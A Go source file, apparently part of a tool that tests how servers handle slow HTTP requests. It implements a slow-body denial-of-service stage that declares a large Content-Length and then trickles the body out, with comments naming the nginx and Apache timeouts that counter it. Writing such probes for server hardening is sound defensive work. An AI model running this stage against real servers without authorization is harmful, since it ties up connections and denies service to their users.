package attackers

import "fmt"

// httpBody parks a connection inside the body of its request.
//
//	client                                server
//	  |-- POST, Content-Length: 1000000 --->|
//	  |-- stalemate= ---------------------->|  waits for the other 999,990 bytes
//	  |... trickle: bytes of the body ......|
//
// The Content-Length says how many bytes follow (RFC 9112 section 6.2). nginx bounds
// the wait by client_body_timeout, Apache by RequestReadTimeout body=. A final answer
// at once, before the body is complete, refuses this stage: see refusal.go.
func httpBody() implementation {
	return implementation{reach: func(c *client) error {
		if err := c.secure(); err != nil {
			return err
		}
		c.trickle = tricklePattern(c.rw(), "a", bodyLength-len(bodyBegin)-1)
		head := c.bodyHead(fmt.Sprintf("Content-Length: %d", bodyLength))
		return c.send("send the head and the beginning of the body", head+bodyBegin)
	}}
}
